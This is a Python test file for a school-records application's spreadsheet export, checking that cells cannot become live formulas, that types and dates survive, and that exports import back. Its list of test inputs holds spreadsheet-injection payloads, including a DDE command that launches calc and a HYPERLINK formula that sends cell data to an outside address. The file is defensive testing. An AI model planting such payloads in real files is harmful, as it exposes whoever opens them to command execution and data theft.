"""Tables out: real dates, numbers as numbers, text that never calculates; and what goes out comes back in."""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
import subprocess
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from khue.lib.spreadsheets.columns import parse_table
from khue.lib.spreadsheets.formulas import looks_like_formula, neutralise, restored
from khue.lib.spreadsheets.kinds import FileKind
from khue.lib.spreadsheets.read import read_workbook
from khue.lib.spreadsheets.write import OutColumn, OutSheet, sheet_name, write_csv, write_xlsx

from .shapes import PUPILS

CALLS = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://192.0.2.1/?"&A1,"x")', "SUM(1;2)", "A1"]
LEADS = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u00a0=",
    "\u200b=",
    '"=',
    "'=",
    "＝",
    "＋",
    "－",
    "＠",
    "\u2212",
    "\ufeff=",
]
SEPARATED = [
    "a;=1+1",
    "a,=1+1",
    "a\t=1+1",
    "a|=1+1",
    'a";"=1+1',
    "a\r\n=1+1",
    "a; =1+1",
    "x,\u00a0@SUM(A1)",
    "a;＝1+1",
]
FORMULAS = [lead + call for lead in LEADS for call in CALLS] + SEPARATED
INNOCENT = [
    "-5",
    "+84912345678",
    "-0,5",
    "12/10/2014",
    "Nguyễn-Văn",
    "a@thidiem.example",
    "1 = 1",
    "Lớp 6A - tổ 1",
    "- 5 %",
]


@pytest.fixture(scope="module")
def workbook():
    data = write_xlsx("Bảo tàng", ["Chữ"], [[text] for text in [*FORMULAS, *INNOCENT]], note="=1+1")
    return openpyxl.load_workbook(io.BytesIO(data))


def moment(*parts: int) -> dt.datetime:
    """A day and hour without a zone, as cells hold them."""
    return dt.datetime(*parts)  # noqa: DTZ001


def test_no_text_of_the_formula_museum_is_live_in_a_workbook(workbook):
    cells = [cell for row in workbook.active.iter_rows() for cell in row if cell.value is not None]
    assert len(cells) >= len(FORMULAS) + len(INNOCENT)
    assert {cell.data_type for cell in cells} == {"s"}


def test_dangerous_text_is_marked_so_that_editing_keeps_it_text(workbook):
    rows = list(workbook.active.iter_rows(min_row=4, max_row=3 + len(LEADS) * len(CALLS)))
    dangerous = [row for row in rows if not row[0].value.startswith("'")]
    assert len(dangerous) == (len(LEADS) - 1) * len(CALLS)
    for row in dangerous:
        assert row[0].quotePrefix
        assert row[0].number_format == "@"


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_no_text_of_the_formula_museum_is_live_in_a_text_file_however_it_is_cut(delimiter):
    text = write_csv(["Chữ", "Sau"], [[text, "x"] for text in FORMULAS]).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        for cell in row:
            lead = cell.lstrip(' \t\r\n"\u00a0\u200b\ufeff“”')[:1]
            assert lead not in set("=+-@＝＋－＠\u2212"), cell


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")
def test_libreoffice_finds_no_formula(tmp_path):
    (tmp_path / "a.xlsx").write_bytes(write_xlsx("Bảo tàng", ["Chữ"], [[text] for text in FORMULAS]))
    (tmp_path / "b.csv").write_bytes(write_csv(["Chữ"], [[text] for text in FORMULAS]))
    for name in ("a.xlsx", "b.csv"):
        subprocess.run(
            ["soffice", "--headless", "--convert-to", "fods", "--outdir", str(tmp_path), str(tmp_path / name)],
            check=True, capture_output=True, timeout=120,
        )  # fmt: skip
        assert "table:formula" not in (tmp_path / name).with_suffix(".fods").read_text(encoding="utf-8")


@pytest.mark.parametrize("text", INNOCENT[:-1])
def test_innocent_text_is_left_as_it_is(text):
    assert neutralise(text) == text


@given(st.text(alphabet=st.sampled_from("=+-@ \t\"';,|\n１a5＝"), max_size=12))
def test_neutralised_text_is_never_a_formula_and_comes_back(text):
    safe = neutralise(text)
    assert not looks_like_formula(safe)
    assert restored(safe) == text


def test_numbers_dates_and_codes_keep_their_kind():
    day, instant = dt.date(2014, 5, 9), dt.datetime(2026, 9, 5, 0, 30, tzinfo=dt.UTC)
    rows = [["0012", -5, Decimal("8.5"), day, instant, 123_456_789_012_345_678, True, None, 1.5]]
    data = write_xlsx("Kiểu", [OutColumn(str(n)) for n in range(9)], rows)
    cells = list(openpyxl.load_workbook(io.BytesIO(data)).active[4])
    assert [cell.value for cell in cells] == [
        "0012", -5, 8.5, moment(2014, 5, 9), moment(2026, 9, 5, 7, 30), "123456789012345678", "x", None, 1.5,
    ]  # fmt: skip
    assert [cell.data_type for cell in cells] == ["s", "n", "n", "d", "d", "s", "s", "n", "n"]
    assert cells[3].number_format == "dd/mm/yyyy"
    assert write_csv(["a"], rows[0:1] and [[v] for v in rows[0][:5]]).decode("utf-8-sig").split() == [
        '"a"', '"0012"', '"-5"', '"8.5"', '"09/05/2014"', '"05/09/2026', '07:30"',
    ]  # fmt: skip


def test_the_header_is_frozen_and_the_note_says_who_and_when():
    data = write_xlsx("Lớp 6A", ["Họ tên"], [["An"]], note="Đỗ Thị Tâm, 05/09/2026 07:30")
    page = openpyxl.load_workbook(io.BytesIO(data)).active
    assert page.freeze_panes == "A4"
    assert [row[0].value for row in page.iter_rows()] == [
        "Lớp 6A", None, "Họ tên", "An", None, "Xuất từ Khuê: Đỗ Thị Tâm, 05/09/2026 07:30",
    ]  # fmt: skip


def test_further_sheets_get_names_that_excel_takes():
    extra = [
        OutSheet("Lớp 6A/6B: [danh sách] rất rất rất dài", ["a"], [["1"]]),
        OutSheet("lớp 6a", ["b"], []),
    ]
    data = write_xlsx("Lớp 6A", ["a"], [], sheets=extra)
    names = openpyxl.load_workbook(io.BytesIO(data)).sheetnames
    assert names[0] == "Lớp 6A"
    assert names[2] == "lớp 6a (2)"
    assert all(len(name) <= 31 for name in names)
    assert sheet_name("'=[]'", set()) == "="


def test_characters_that_no_workbook_may_hold_are_dropped():
    data = write_xlsx("A\x00", ["b\x0b"], [["c\x1bd\ud800", "e" * 40_000][:1]])
    assert openpyxl.load_workbook(io.BytesIO(data)).active["A4"].value == "cd"


PEOPLE = [
    {
        "code": "3800000001",
        "full_name": "Lê Thị An",
        "birth_date": dt.date(2014, 5, 9),
        "sex": "Nữ",
        "class_name": "6A1",
        "personal_number": "038314001234",
        "phone": "0912345678",
        "note": "=SUM(A1)",
    },
    {
        "code": "3800000002",
        "full_name": "Y Moan",
        "birth_date": dt.date(2013, 12, 31),
        "sex": "Nam",
        "class_name": "6A2",
        "personal_number": "001213000001",
        "phone": "+84912345678",
        "note": "a;=1+1 - x",
    },
]


@pytest.mark.parametrize("kind", [FileKind.XLSX, FileKind.CSV])
def test_what_is_exported_imports_back(kind):
    columns = PUPILS.columns
    data = (
        write_xlsx("Học sinh", columns, PEOPLE, note="Tâm, ngày 05 tháng 09 năm 2026")
        if kind is FileKind.XLSX
        else write_csv(columns, PEOPLE)
    )
    table = parse_table(read_workbook(data, kind), PUPILS)
    assert [row.values for row in table.rows] == PEOPLE
    assert table.problems == []


def test_a_list_of_one_column_imports_back_without_its_note():
    from khue.lib.spreadsheets.columns import Column, TableShape

    shape = TableShape("names", (Column("full_name", "Họ tên", required=True),))
    data = write_xlsx("Danh sách", shape.columns, [["An"], ["Bình"]], note="Tâm")
    assert [r.values["full_name"] for r in parse_table(read_workbook(data, FileKind.XLSX), shape).rows] == [
        "An",
        "Bình",
    ]
